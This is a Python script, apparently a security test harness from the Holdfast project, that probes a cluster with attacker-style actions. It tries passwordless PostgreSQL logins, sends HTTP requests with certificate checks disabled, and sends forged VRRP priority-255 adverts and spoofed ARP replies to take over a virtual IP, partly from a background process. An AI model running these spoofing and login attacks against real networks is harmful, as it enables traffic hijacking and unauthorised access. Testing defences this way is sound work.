# Copyright: Holdfast contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an attacker brings along: a node runs it as python3 -c, with the standard library only.

    http URL [--folder DIR --cert NAME] [--data JSON] [--user U:P] [--method M]    ask for a page
    postgres HOST PORT USER DATABASE [--replication] [--plain] [--folder DIR --cert NAME]    log in without a password
    tls HOST PORT [--folder DIR --cert NAME]    shake hands, and read what the server says first
    socket PATH LINE    say a line to a Unix socket
    vrrp ROUTER VIP SOURCE TARGET    send adverts of the highest priority for six seconds, the last four in background
    arp VIP    say for six seconds that this host has an address, the last four in background

Exit code 0: it got through, 1: it was refused, 2: neither is certain. DIR has ca.crt, NAME.crt and host.key.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import fcntl
import os
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable

SECONDS = 8.0
FOREGROUND, BACKGROUND = 2.0, 4.0
PERIOD = 0.1


class RefusedError(Exception):
    """The other side, or the kernel, said no."""


def context(folder: str, cert: str) -> ssl.SSLContext:
    """TLS that believes every server, with a client certificate if there is one."""
    tls = ssl.create_default_context()
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    if folder:
        tls.load_cert_chain(f"{folder}/{cert}.crt", f"{folder}/host.key")
    return tls


def http(arguments: argparse.Namespace) -> str:
    """Ask for a page."""
    request = urllib.request.Request(arguments.url, method=arguments.method)
    if arguments.data:
        request.data = arguments.data.encode()
        request.add_header("Content-Type", "application/json")
    if arguments.user:
        request.add_header("Authorization", "Basic " + base64.b64encode(arguments.user.encode()).decode())
    try:
        tls = context(arguments.folder, arguments.cert)
        with urllib.request.urlopen(request, timeout=SECONDS, context=tls) as answer:
            return f"{answer.status} {answer.read(300)!r}"
    except urllib.error.HTTPError as error:
        raise RefusedError(f"{error.code} {error.reason} {error.read(300)!r}") from error
    except urllib.error.URLError as error:
        if isinstance(error.reason, OSError):
            raise error.reason from error
        raise


def tcp(host: str, port: int) -> socket.socket:
    """Connect."""
    return socket.create_connection((host, port), SECONDS)


def exactly(stream: socket.socket, size: int) -> bytes:
    """Read so many bytes."""
    read = b""
    while len(read) < size:
        part = stream.recv(size - len(read))
        if not part:
            raise RefusedError("closed the connection")
        read += part
    return read


def postgres(arguments: argparse.Namespace) -> str:
    """Log in without a password, and say how the server answers."""
    if arguments.host.startswith("/"):
        stream = socket.socket(socket.AF_UNIX)
        stream.settimeout(SECONDS)
        stream.connect(f"{arguments.host}/.s.PGSQL.{arguments.port}")
    else:
        stream = tcp(arguments.host, arguments.port)
        if not arguments.plain:
            stream.sendall(struct.pack("!ii", 8, 80877103))
            if exactly(stream, 1) != b"S":
                raise RefusedError("no TLS")
            stream = context(arguments.folder, arguments.cert).wrap_socket(stream)
    words = ["user", arguments.user, "database", arguments.database]
    words += ["replication", "true"] if arguments.replication else []
    body = struct.pack("!i", 196608) + b"".join(word.encode() + b"\0" for word in words) + b"\0"
    stream.sendall(struct.pack("!i", len(body) + 4) + body)
    return first_answer(stream)


def first_answer(stream: socket.socket) -> str:
    """What PostgreSQL or PgBouncer says to a login."""
    kind, size = struct.unpack("!ci", exactly(stream, 5))
    message = exactly(stream, size - 4)
    if kind == b"E":
        fields = {part[:1]: part[1:].decode() for part in message.split(b"\0") if part}
        raise RefusedError(fields.get(b"M", "an error"))
    if kind == b"R" and struct.unpack("!i", message[:4])[0]:
        raise RefusedError("asks for a password")
    return f"logged in: {kind!r} {message[:40]!r}"


def tls_greeting(arguments: argparse.Namespace) -> str:
    """Shake hands; with TLS 1.3 the server's word on the client's certificate comes with its first answer."""
    stream = context(arguments.folder, arguments.cert).wrap_socket(tcp(arguments.host, arguments.port))
    greeting = stream.recv(200)
    if not greeting:
        raise RefusedError("closed the connection")
    return repr(greeting)


def say(arguments: argparse.Namespace) -> str:
    """Say a line to a Unix socket."""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(SECONDS)
        stream.connect(arguments.path)
        stream.sendall(arguments.line.encode() + b"\n")
        return repr(stream.recv(200))


def repeatedly(send: Callable[[], object]) -> str:
    """Send again and again; the second part goes on in the background, while others look at what it does."""

    def until(seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            send()
            time.sleep(PERIOD)

    until(FOREGROUND)
    if os.fork() == 0:
        os.setsid()
        nothing = os.open(os.devnull, os.O_RDWR)
        for number in range(3):
            os.dup2(nothing, number)
        until(BACKGROUND)
        os._exit(0)
    return "sent"


def checksum(data: bytes) -> int:
    """The Internet checksum."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(router: int, vip: str, source: str, target: str) -> bytes:
    """An IPv4 packet with a VRRPv3 advert of the priority 255, each 0.2 s."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)

    def vrrp(check: int) -> bytes:
        return struct.pack("!BBBBHH", 0x31, router, 255, 1, 20, check) + socket.inet_aton(vip)

    body = vrrp(checksum(addresses + struct.pack("!BBH", 0, 112, len(vrrp(0))) + vrrp(0)))
    return struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(body), 0, 0, 255, 112, 0) + addresses + body


def vrrp(arguments: argparse.Namespace) -> str:
    """Send adverts."""
    packet = advert(arguments.router, arguments.vip, arguments.source, arguments.target)
    stream = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    return repeatedly(lambda: stream.sendto(packet, (arguments.target, 0)))


def arp(arguments: argparse.Namespace) -> str:
    """Say that this host has an address."""
    stream = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    stream.bind(("eth0", 0))
    own = fcntl.ioctl(stream.fileno(), 0x8927, struct.pack("256s", b"eth0"))[18:24]
    vip, everybody = socket.inet_aton(arguments.vip), b"\xff" * 6
    frame = everybody + own + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2) + own + vip + everybody + vip
    return repeatedly(lambda: stream.send(frame))


def parser() -> argparse.ArgumentParser:
    """The command line."""
    made = argparse.ArgumentParser()
    commands = made.add_subparsers(required=True)

    def command(name: str, run: Callable[[argparse.Namespace], str], *words: str) -> argparse.ArgumentParser:
        one = commands.add_parser(name)
        one.set_defaults(run=run)
        for word in words:
            one.add_argument(word, type=int if word in ("port", "router") else str)
        return one

    asked = command("http", http, "url")
    asked.add_argument("--data", default="")
    asked.add_argument("--user", default="")
    asked.add_argument("--method", default=None)
    login = command("postgres", postgres, "host", "port", "user", "database")
    login.add_argument("--replication", action="store_true")
    login.add_argument("--plain", action="store_true")
    for one in (asked, login, command("tls", tls_greeting, "host", "port")):
        one.add_argument("--folder", default="")
        one.add_argument("--cert", default="host")
    command("socket", say, "path", "line")
    command("vrrp", vrrp, "router", "vip", "source", "target")
    command("arp", arp, "vip")
    return made


def main() -> int:
    """Run a command."""
    arguments = parser().parse_args()
    try:
        print(arguments.run(arguments))
    except TimeoutError:
        print("no answer")
        return 1
    except (RefusedError, ssl.SSLError, ConnectionError, PermissionError, FileNotFoundError) as error:
        print(f"{type(error).__name__}: {error}")
        return 1
    except OSError as error:
        print(f"{type(error).__name__}: {error}")
        return 2
    return 0


if __name__ == "__main__":
    with contextlib.suppress(BrokenPipeError):
        sys.exit(main())
